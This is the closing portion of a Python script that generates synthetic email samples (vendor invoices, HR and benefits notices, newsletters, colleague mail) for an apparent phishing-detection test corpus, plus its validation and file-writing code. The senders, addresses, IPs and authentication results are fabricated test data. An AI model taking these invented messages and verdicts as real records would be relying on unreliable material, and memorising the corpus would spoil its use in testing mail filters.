               "will never ask you to reply with your password."],
              ("Log in to MyADP", "https://click.email.adp.com/?qs=7a9c2b4e61f0d83a5c2e9b1d4f7a0c3e6b8d1f4a7c0e3b6d9f2a5c8e1b4d7f0"),
              "ADP, Inc. &middot; One ADP Boulevard, Roseland, NJ 07068<br>ADP and the ADP logo are registered trademarks of ADP, Inc.", b="java"))
add("workday-open-enrollment", "bulk", "bulk",
    "Genuine Workday task notification from the company's Workday tenant (myworkday.com, passes) for the 2026 open "
    "enrolment event, linking to wd5.myworkday.com.",
    frm=("Corliss Harbor Workday", "corlissharbor@myworkday.com"), to=["aweiss"], date="2025-10-27 13:00:12",
    subject="Action Required: Open Enrollment 2026 - Benefit Change for Anna Weiss",
    via=v_esp("mx1.wd5.myworkday.com", "216.74.143.22", "corlissharbor@myworkday.com", [("myworkday.com", "wd1")],
              "<{g}.JavaMail.wdprod@wd5-prod-notify>"),
    body=card("Workday", "#005cb9", "Open Enrollment 2026 is now open",
              ["You have a new task in your Workday inbox: <b>Open Enrollment Change: Anna Weiss</b>.",
               "Open enrollment runs October 27 through November 7, 2025. Review your medical, dental, vision and FSA elections "
               "in Workday. Contact benefits@corlissharbor.com with questions."],
              ("Go to Workday Inbox", "https://wd5.myworkday.com/corlissharbor/d/inbox.htmld"),
              "This is an automated notification from Workday. Please do not reply.", b="java"))
add("bswift-elections-confirmation", "bulk", "bulk",
    "Genuine benefits-administrator (bswift) confirmation of the employee's 2026 elections, with portal link on the "
    "company's bswift subdomain.",
    frm=("bswift Benefits", "noreply@bswift.com"), to=["aweiss"], date="2025-11-05 19:44:51",
    subject="Confirmation of your 2026 benefit elections",
    via=v_esp("mail148-22.sendgrid.net", "168.245.22.148", "bounces+2231149-7c0d-aweiss=corlissharbor.com@em.bswift.com",
              [("bswift.com", "s1"), ("sendgrid.info", "smtpapi")], "<{r}@geopod-ismtpd-14>"),
    body=card("bswift", "#00857c", "Your 2026 elections are confirmed",
              ["Hi Anna,", "Thank you for completing your 2026 Open Enrollment. Your elections take effect January 1, 2026:",
               "Medical: PPO 1500 - Employee + Spouse<br>Dental: Delta Dental PPO - Employee + Spouse<br>Vision: VSP - Employee<br>"
               "Health FSA: $1,200.00", "You can review your confirmation statement at any time."],
              ("View confirmation statement", "https://corlissharbor.bswift.com/confirmation?event=OE2026"),
              "bswift LLC, 10 S. Riverside Plaza, Suite 1100, Chicago, IL 60606", b="sg"))


# ---- legitimate: business mail, newsletters, colleagues
add("quickbooks-vendor-invoice", "legit", "clean",
    "Genuine QuickBooks Online invoice from the company's tire and fleet-service vendor (notification.intuit.com, passes; "
    "Reply-To the vendor's AR mailbox) with the PDF invoice and an Intuit payment link.",
    frm=("Midwest Tire & Fleet Service", "quickbooks@notification.intuit.com"), to=["praman"], date="2025-06-20 14:09:33",
    subject="Invoice 20931 from Midwest Tire & Fleet Service", attach=True,
    hdrs=["Reply-To: Midwest Tire & Fleet Service <ar@midwesttirefleet.com>"],
    via=v_esp("mail.notification.intuit.com", "206.108.40.47", "quickbooks@notification.intuit.com",
              [("notification.intuit.com", "2048")], "<{h}.{t}@qbo.intuit.com>", ["X-Intuit-Email-Type: invoice"]),
    body=mixed("java", card("Midwest Tire &amp; Fleet Service", "#2ca01c", "Invoice 20931",
                            ["Dear Corliss Harbor Logistics &amp; Engineering,", "Here's your invoice! We appreciate your prompt payment.",
                             "<b>Balance due: $8,412.66</b><br>Due date: 07/20/2025<br>Tractors 211, 214, 219 - steer/drive tire replacement "
                             "and alignment (WO 7741-7746)", "Thanks for your business!<br>Midwest Tire &amp; Fleet Service"],
                            ("Review and pay", "https://connect.intuit.com/t/scs-v1-3f8a2c1e9b7d4e6f8a0c2e4b6d8f0a1c3e5b7d9f?cta=viewinvoicenow&locale=en_US"),
                            "Midwest Tire &amp; Fleet Service &middot; 1450 Matzinger Rd, Toledo, OH 43612 &middot; (419) 555-0163<br>"
                            "Powered by QuickBooks", b="java", font="Avenir,Helvetica,Arial,sans-serif"),
               att("application/pdf", "Invoice_20931_from_Midwest_Tire__Fleet_Service.pdf",
                   files.pdf(["Midwest Tire & Fleet Service", "INVOICE 20931   Date 06/20/2025   Terms Net 30",
                              "Bill to: Corliss Harbor Logistics & Engineering, 2200 Front Street, Toledo, OH 43605", "",
                              "WO 7741-7746 steer/drive tires, mounting, alignment ........ $8,412.66",
                              "Balance due: $8,412.66"], title="Invoice 20931"))))
add("customer-remittance-advice", "legit", "clean",
    "A transit-authority customer's AP clerk sends an EFT remittance advice PDF for paid invoices from their Microsoft 365 "
    "tenant (passes all checks); no link.",
    frm=("Denise Fowler", "dfowler@tricountytransit.org"), to=["jfitzgerald"], date="2024-09-12 17:20:46",
    subject="Remittance advice - EFT 0041877", attach=True, via=v_m365("tricountytransit.org", region="namprd02"),
    body=mixed("ol", outlook(["Hi James,", "Attached is the remittance advice for EFT 0041877 ($46,215.40) that settled today. It "
                              "covers invoices CH-28811, CH-28840 and CH-28902 for the August bus yard snow-plan engineering and "
                              "parts hauling.", "Let me know if anything doesn't match your records."],
                             "Denise Fowler\nAccounts Payable Specialist\nTri-County Transit Authority\n(419) 555-0119"),
               att("application/pdf", "EFT_0041877_Remittance.pdf",
                   files.pdf(["TRI-COUNTY TRANSIT AUTHORITY - REMITTANCE ADVICE", "Payment: EFT 0041877   Date: 09/12/2024",
                              "Payee: Corliss Harbor Logistics & Engineering", "CH-28811  $18,400.00", "CH-28840  $12,115.40",
                              "CH-28902  $15,700.00", "Total: $46,215.40"], title="Remittance Advice"))))
add("it-notice-mfa-reporting", "legit", "clean",
    "Internal IT notice from the service-desk lead to all staff about MFA number matching and the Report phishing button, "
    "with links to the company SharePoint and aka.ms; internal, not signed, authenticated as Internal.",
    frm="badeyemi", to=[("All Staff", "allstaff@corlissharbor.com")], rcpt="mgonzalez", date="2025-03-03 14:30:12",
    subject="Reminder: MFA number matching and how to report phishing", via=INT,
    body=outlook(["Hi everyone,", "A quick reminder as we see more phishing aimed at our industry:",
                  "1. Microsoft Authenticator now asks you to type the number shown on your screen. If you get a prompt you did not "
                  "start, deny it and call the Service Desk at x0142.",
                  "2. IT will never ask you to re-enroll MFA by scanning a QR code in an email, and we never send password-expiry "
                  "emails. Passwords are changed at https://mysignins.microsoft.com/security-info or on your laptop with Ctrl+Alt+Del.",
                  "3. Use the Report phishing button in Outlook for anything suspicious. Instructions are on the IT site: "
                  "https://corlissharbor.sharepoint.com/sites/IT/SitePages/Report-Phishing.aspx",
                  "Thanks for helping keep Corliss Harbor safe."], SIG["badeyemi"]))


def newsletter(brand: str, color: str, intro: str, items, track, foot: str, b: str, unsub: str) -> Multi:
    arts = "".join(f'<tr><td style="padding:14px 24px;border-bottom:1px solid #e5e5e5;"><a href="{track(i)}" style="font-size:17px;'
                   f'font-weight:bold;color:#111;text-decoration:none;">{t}</a><p style="margin:6px 0 0 0;font-size:14px;color:#444;">{d} '
                   f'<a href="{track(i)}" style="color:{color};">Read more</a></p></td></tr>\n' for i, (t, d) in enumerate(items))
    html = ('<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="margin:0;background:#eeeeee;"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">\n'
            '<table width="620" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,Times,serif;">\n'
            f'<tr><td style="background:{color};padding:16px 24px;"><a href="{track(50)}" style="color:#fff;font-size:24px;font-weight:bold;'
            f'text-decoration:none;">{brand}</a></td></tr>\n<tr><td style="padding:16px 24px;font-size:14px;color:#333;">{intro}</td></tr>\n'
            f'{arts}<tr><td style="padding:18px 24px;font-size:11px;color:#888;">{foot}<br><a href="{unsub}">Unsubscribe</a> | '
            f'<a href="{track(60)}">Manage preferences</a> | <a href="{track(61)}">View in browser</a></td></tr>\n'
            f'</table></td></tr></table><img src="{track(70)}" width="1" height="1" alt=""></body></html>\n')
    return alt(h2t(html), html, b)


FW_ITEMS = [("Spot rates climb as produce season tightens capacity", "Dry van spot rates rose for the third straight week as "
             "Southeast produce volumes pulled trucks out of the Midwest."),
            ("Class 8 orders slip ahead of EPA 2027 rules", "Fleets are holding off on new tractor orders while pre-buy math shifts."),
            ("Cargo theft: strategic fraud now tops straight theft", "Double brokering and identity theft schemes dominated Q1 incidents."),
            ("Port of Toledo posts record grain tonnage", "Great Lakes ports reported strong spring volumes.")]
add("freightwaves-newsletter", "bulk", "bulk",
    "Genuine FreightWaves daily newsletter sent through HubSpot (DKIM for freightwaves.com and hubspotemail.net, bulk "
    "complaint level 5) full of e3t tracking redirect links and an open pixel.",
    frm=("FreightWaves", "newsletter@freightwaves.com"), to=["tkaczmarek"], date="2025-05-29 10:31:07",
    subject="FreightWaves Daily: Spot rates climb as produce season tightens capacity", bcl=5,
    hdrs=["List-Unsubscribe: <https://hs-1881245.s.hubspotemail.net/hs/manage-preferences/unsubscribe?d=eyJlYSI6InRrYWN6bWFyZWsifQ>",
          "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"],
    via=v_esp("mail-108.bf04x.hubspotemail.net", "158.247.20.108", "1axbtjdb0jzf6xhq8rqw7yw1m4v2k0d@bf04x.hubspotemail.net",
              [("freightwaves.com", "hs1-1881245"), ("hubspotemail.net", "hs1")], "<{t}.{h}@bf04x.hubspotemail.net>",
              ["X-HS-Cid: " + b64s("hscid", 40), "X-Report-Abuse-To: abuse@hubspot.com"]),
    body=newsletter("FreightWaves", "#0a2240", "Good morning. Here's what is moving the freight market today.", FW_ITEMS,
                    lambda i: f"https://d1Hf5X04.na1.hubspotlinks.com/Ctc/ZW+113/d1Hf5X04/VWx9Yk{hx('fw' + str(i), 10)}W{tok('fw' + str(i), 28)}/{tok('fwx' + str(i), 40)}",
                    "FreightWaves, Inc. &middot; 3200 Williams St, Chattanooga, TN 37410", "hs",
                    "https://hs-1881245.s.hubspotemail.net/hs/manage-preferences/unsubscribe?d=eyJlYSI6InRrYWN6bWFyZWsifQ"))

ENR_ITEMS = [("Contractors face steel price volatility after tariff changes", "Fabricators say mill lead times are stretching into Q3."),
             ("Warehouse construction cools but cold storage stays hot", "Developers shift to temperature-controlled distribution."),
             ("OSHA proposes heat illness prevention rule", "What the proposal means for construction and logistics sites."),
             ("Top 500 Design Firms: engineering revenue up 8%", "The annual ranking shows strong transportation demand.")]
add("enr-newsletter", "bulk", "bulk",
    "Genuine Engineering News-Record daily headlines via Salesforce Marketing Cloud (click.e.enr.com tracking on every "
    "link, DKIM for e.enr.com), subscribed by a structural engineer.",
    frm=("ENR Daily", "enr@e.enr.com"), to=["edunleavy"], date="2024-05-22 11:05:49",
    subject="ENR Daily: Contractors face steel price volatility after tariff changes", bcl=4,
    hdrs=["List-Unsubscribe: <https://click.e.enr.com/unsub_center.aspx?qs=7c9b2a4d6e8f0a1b>, <mailto:leave-fd3f1c7476300e3f1b@leave.e.enr.com>",
          "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
    via=v_esp("mta7.e.enr.com", "13.111.112.47", "bounce-1037_HTML-88213344-551204-7338121-84@bounce.e.enr.com",
              [("e.enr.com", "200608")], "<{g}@xtnvmta4303.xt.local>", ["X-SFMC-Stack: 11"]),
    body=newsletter("ENR", "#c8102e", "Today's top stories from Engineering News-Record.", ENR_ITEMS,
                    lambda i: f"https://click.e.enr.com/?qs={hx('enr' + str(i), 96)}",
                    "ENR &middot; BNP Media, 2401 W. Big Beaver Rd, Suite 700, Troy, MI 48084", "java",
                    "https://click.e.enr.com/unsub_center.aspx?qs=7c9b2a4d6e8f0a1b"))
add("colleague-lunch", "legit", "clean",
    "Internal plain note from the fleet manager to a warehouse supervisor about a team lunch; internal, no links.",
    frm="gmahoney", to=["ktran"], date="2024-10-02 15:12:40", subject="Lunch Friday for Ray's 25 years", via=INT,
    body=outlook(["Kevin,", "We're taking Ray to Rosie's on Friday at 11:30 for his 25th anniversary. Can you cover the dock so "
                  "Marcy and Jose can come? I'll bring the card around Thursday for everyone to sign.", "Greg"]))

RFI = files.docx(["Riverside Distribution Center", "RFI 014 Response - Mezzanine beam connection at grid C/7",
                  "Response: Use the revised shear tab detail 5/S-501 with (4) 7/8\" A325-N bolts.",
                  "Prepared by: E. Dunleavy, P.E.   Reviewed: L. Ortega, P.E."], "RFI 014 Response", "Eric Dunleavy")
add("colleague-thread-docx", "legit", "clean",
    "Internal project thread: the project engineer forwards the reviewed RFI response (Word document) to the project "
    "manager, quoting her request; internal Outlook mail.",
    frm="lortega", to=["aweiss"], cc=["edunleavy"], date="2025-07-15 19:02:18", subject="RE: RFI 014 - mezzanine connection",
    attach=True, replies=1, via=INT,
    hdrs=["In-Reply-To: <PH0PR12MB6211F2A4C8E03D5B7A9C1E3F6B824@PH0PR12MB6211.namprd12.prod.outlook.com>"],
    body=mixed("ol", outlook(["Anna,", "Attached is the response Eric prepared, I reviewed it this afternoon. OK to send to the GC. "
                              "The revised detail doesn't change the steel order.", "Luis"], SIG["lortega"],
                             [dict(frm="Anna Weiss <aweiss@corlissharbor.com>", sent="Tuesday, July 15, 2025 9:41 AM",
                                   to="Luis Ortega <lortega@corlissharbor.com>", cc="Eric Dunleavy <edunleavy@corlissharbor.com>",
                                   subject="RFI 014 - mezzanine connection",
                                   paras=["Luis, the GC needs our answer on RFI 014 by Thursday. Can you and Eric turn it around?",
                                          "Thanks,\nAnna"])]),
               att("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Riverside_DC_RFI_014_Response.docx", RFI)))
add("vendor-statement-genuine", "legit", "clean",
    "The steel fabricator's genuine AR contact (real domain glsteelfab.com, Microsoft 365, passes) sends the monthly "
    "statement of account PDF; this is the thread a look-alike later hijacked.",
    frm=("Carla Brennan", "cbrennan@glsteelfab.com"), to=["praman"], date="2025-05-13 14:05:22",
    subject="Statement of account - April 2025", attach=True, via=v_m365("glsteelfab.com"),
    body=mixed("ol", outlook(["Hi Priya,", "Please find our April statement attached for your review.", "Thank you,\nCarla"],
                             "Carla Brennan\nAccounts Receivable\nGreat Lakes Steel Fabricators\n(734) 555-0152"),
               att("application/pdf", "GLSF_Statement_Corliss_Harbor_2025-04.pdf",
                   files.pdf(["GREAT LAKES STEEL FABRICATORS, LLC - STATEMENT OF ACCOUNT", "Customer: Corliss Harbor Logistics & Engineering",
                              "Statement date: 04/30/2025", "90412  04/08/2025  $21,860.00", "90455  04/19/2025  $9,372.50",
                              "Balance due: $31,232.50", "Remit to: 4180 Industrial Parkway, Monroe, MI 48161"], title="Statement"))))
add("adobe-sign-genuine", "bulk", "bulk",
    "Genuine Adobe Acrobat Sign request (adobesign.com, passes) from a general contractor's project administrator for a "
    "crane-services subcontract, with the requester as Reply-To.",
    frm=("Adobe Acrobat Sign", "adobesign@adobesign.com"), to=["aweiss"], date="2024-03-05 16:27:45",
    subject='Signature requested on "Subcontract Agreement - Riverside DC Crane Services"',
    hdrs=["Reply-To: Holly Brandt <hbrandt@kellerbuildgroup.com>"],
    via=v_esp("mail-na1.adobesign.com", "52.13.161.21", "adobesign@adobesign.com", [("adobesign.com", "dkim")], "<{g}@adobesign.com>"),
    body=card("Adobe Acrobat Sign", "#eb1000", "Signature requested",
              ["<b>Holly Brandt</b> (hbrandt@kellerbuildgroup.com) has requested your signature on "
               "<b>Subcontract Agreement - Riverside DC Crane Services</b>.",
               "Anna, attached is the subcontract with the exhibits we walked through Friday. Please sign by 3/8. Thanks, Holly"],
              ("Review and sign", "https://secure.na1.adobesign.com/public/esign?tsid=CBFCIBAA3AAABLblqZhB" + tok("adsgn", 60)),
              "To ensure that you continue receiving our emails, please add adobesign@adobesign.com to your address book or safe list. "
              "&copy; 2024 Adobe. All rights reserved.", b="java", font="adobe-clean,Helvetica,Arial,sans-serif"))
add("dropbox-partner-share", "bulk", "bulk",
    "Genuine Dropbox share notification (dropbox.com, passes) from a land-surveying partner with site survey photos the "
    "engineer requested.",
    frm=("Mark Ellison (via Dropbox)", "no-reply@dropbox.com"), to=["edunleavy"], date="2025-09-09 13:45:02",
    subject='Mark Ellison shared "Perrysburg Yard - Site Survey Photos" with you',
    hdrs=["Reply-To: Mark Ellison <mellison@ellisonsurveying.com>"],
    via=v_esp("mail-3.dropbox.com", "162.125.6.33", "bounces@bounce.dropbox.com", [("dropbox.com", "20250115")],
              "<{h}@dropbox.com>", ["X-Dropbox-Email-Type: shared_folder_invite"]),
    body=card("Dropbox", "#0061fe", "Mark Ellison shared a folder with you",
              ["Mark Ellison (mellison@ellisonsurveying.com) invited you to view the folder <b>Perrysburg Yard - Site Survey Photos</b>.",
               '<i>"Eric - photos and the topo from Tuesday, including the culvert at the north gate."</i>'],
              ("Go to folder", "https://www.dropbox.com/scl/fo/9x2c4v6b8n0m1q3w5e7r/AHt5Yp2Wq8Lz0Ck3Vn6Rb1M?rlkey=w8e2r4t6y0u1i3o5p7a9s2d4f&dl=0"),
              "Enjoy!<br>The Dropbox team<br><br>&copy; 2025 Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158", b="java"))
add("ups-billing-center", "bulk", "bulk",
    "Genuine UPS Billing Center notice (ups.com, passes) that the weekly shipping invoice is ready, with ups.com links "
    "and no attachment.",
    frm=("UPS Billing Center", "billing.notification@ups.com"), to=["jfitzgerald"], date="2024-12-14 09:18:27",
    subject="UPS Billing Center: Your invoice is ready - Account 0W4R82",
    via=v_esp("mail-out2.ups.com", "153.2.234.52", "billing.notification@ups.com", [("ups.com", "ups2023")], "<{g}@ups.com>"),
    body=card("UPS", "#351c15", "Your UPS invoice is ready",
              ["Account number: <b>0W4R82</b><br>Invoice number: 0000W4R82504<br>Invoice date: 12/14/2024<br>Amount due: $3,218.44",
               "Your invoice is available to view, download and pay in UPS Billing Center. Payment is due per your account terms."],
              ("View Invoice", "https://billing.ups.com/ups/billing/invoice?acct=0W4R82&inv=0000W4R82504"),
              "&copy; 2024 United Parcel Service of America, Inc. UPS, the UPS brandmark and the color brown are trademarks of "
              "United Parcel Service of America, Inc.", b="java", font="Roboto,Arial,sans-serif"))


def mp3(seconds: int) -> bytes:
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * (seconds * 38 // 10)


add("teams-voicemail-internal", "legit", "clean",
    "Genuine Teams/Exchange voicemail e-mail from an internal colleague's call, with transcription and the audio as an "
    "MP3 attachment; internal mail.",
    frm="tkaczmarek", to=["gmahoney"], date="2025-01-15 13:24:10", subject="Voicemail from Tom Kaczmarek (32 seconds)",
    attach=True, via=INT, hdrs=["X-MS-Exchange-Organization-Voicemail: 1", "X-CallingTelephoneNumber: +14195550177"],
    body=mixed("ol", alt("You received a voice mail from Tom Kaczmarek.\n\nTranscription:\nHey Greg, it's Tom. Unit 219 threw a "
                         "check engine light outside Findlay, driver's limping it back. Can you get it in at Midwest Tire tomorrow "
                         "morning? Call me back.\n\nDuration: 32 seconds\n",
                         "<html><body style=\"font-family:Segoe UI\"><p>You received a voice mail from <b>Tom Kaczmarek</b>.</p>"
                         "<p><b>Transcription:</b><br>Hey Greg, it's Tom. Unit 219 threw a check engine light outside Findlay, driver's "
                         "limping it back. Can you get it in at Midwest Tire tomorrow morning? Call me back.</p><p>Duration: 32 seconds</p>"
                         "</body></html>\n", "ol"),
               att("audio/mpeg", "audio.mp3", mp3(32))))
add("ceo-to-assistant", "legit", "clean",
    "The CEO's genuine internal request to his assistant to move a customer meeting and print the board deck; internal, "
    "authenticated, no link.",
    frm="moyelaran", to=["sprice"], date="2024-02-07 13:51:33", subject="Thursday", via=INT,
    body=outlook(["Samantha,", "Can you move my 2pm with the Norvale folks to Thursday morning and get 12 copies of the board deck "
                  "printed for Friday? Dana will send you the final version tonight.", "Thanks"], SIG["moyelaran"]))
add("hr-handbook-internal", "legit", "clean",
    "Genuine internal HR announcement to all staff that the 2025 handbook is published and must be acknowledged in Workday, "
    "linking to the company SharePoint and Workday tenant; internal mail.",
    frm="jholloway", to=[("All Staff", "allstaff@corlissharbor.com")], rcpt="mgonzalez", date="2025-02-10 15:00:27",
    subject="2025 Employee Handbook - please acknowledge in Workday by Feb 28", via=INT,
    body=outlook(["Hello team,", "The 2025 Employee Handbook is now posted on the HR site: "
                  "https://corlissharbor.sharepoint.com/sites/HR/Shared%20Documents/Policies/2025_Employee_Handbook.pdf",
                  "Main changes: updated PTO carry-over, the new DOT drug and alcohol testing section for drivers, and the remote work "
                  "policy for office staff.",
                  "Please acknowledge it in Workday (Inbox > Handbook Acknowledgement) by February 28: "
                  "https://wd5.myworkday.com/corlissharbor/d/inbox.htmld",
                  "HR will never send the handbook through DocuSign or Dropbox Sign. Questions? Reply to me or stop by."], SIG["jholloway"]))
add("billcom-payment-received", "bulk", "bulk",
    "Genuine BILL (bill.com, passes) notice that a customer sent an ePayment for two invoices, with app.bill.com links.",
    frm=("BILL", "no-reply@hq.bill.com"), to=["jfitzgerald"], date="2025-08-29 16:02:48",
    subject="You've received a payment from Norvale Foods, Inc.",
    via=v_esp("o3.mail.bill.com", "167.89.71.203", "bounces+1188203-ae21-jfitzgerald=corlissharbor.com@mail.bill.com",
              [("hq.bill.com", "s1"), ("sendgrid.info", "smtpapi")], "<{r}@geopod-ismtpd-3>"),
    body=card("BILL", "#ff5a00", "Norvale Foods, Inc. sent you a payment",
              ["Amount: <b>$27,480.00</b><br>Payment method: ACH (ePayment)<br>Expected arrival: 09/03/2025",
               "Invoices paid: CH-30544 ($14,980.00), CH-30581 ($12,500.00)"],
              ("View payment details", "https://app02.us.bill.com/p/Pay4e7b2c1d9f0a3e5b?utm_source=email&utm_medium=payment_received"),
              "BILL Operations, LLC &middot; 6220 America Center Drive, Suite 100, San Jose, CA 95002", b="sg"))


# ----------------------------------------------------------------------------- main
def check(path: Path, data: bytes) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(data)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, (path, name)
        assert not msg[name].defects, (path, name, msg[name].defects)
    for part in msg.walk():
        assert not part.defects, (path, part.get_content_type(), part.defects)
        if not part.is_multipart():
            part.get_content()


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b24-bulk-sspr-password-reset": "clean", "b24-bulk-quarantine-digest-genuine": "clean",
    "b24-bulk-docusign-customer-envelope": "clean", "b24-bulk-workday-open-enrollment": "clean",
    "b24-legit-quickbooks-vendor-invoice": "bulk", "b24-bulk-adobe-sign-genuine": "clean",
    # attacks that only link to a download or a fake check (no program attached) go under phishing, as in set 15
    "b24-phish-clickfix-freight-claim-link": "phishing", "b24-phish-dmca-zip-link": "phishing",
}


def main() -> None:
    assert len({m["slug"] for m in MESSAGES}) == len(MESSAGES)
    counts: dict[str, int] = {}
    lines = []
    for m in MESSAGES:
        assert (m["kind"] == "phish") == (m["cat"] in ("phishing", "malware")), m["slug"]
        data = build(m)
        name = f"b{N}-{m['kind']}-{m['slug']}"
        rel = f"samples/mail/{REFILED.get(name, m['cat'])}/{name}.eml"
        path = ROOT / rel
        check(path, data)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
        lines.append(f"{rel} | {m['cat']} | {m['desc']}")
    MANIFEST.write_text("\n".join(lines) + "\n")
    attacks = sum(1 for m in MESSAGES if m["kind"] == "phish")
    print(f"{len(MESSAGES)} messages ({attacks} attacks, {len(MESSAGES) - attacks} legitimate):",
          ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
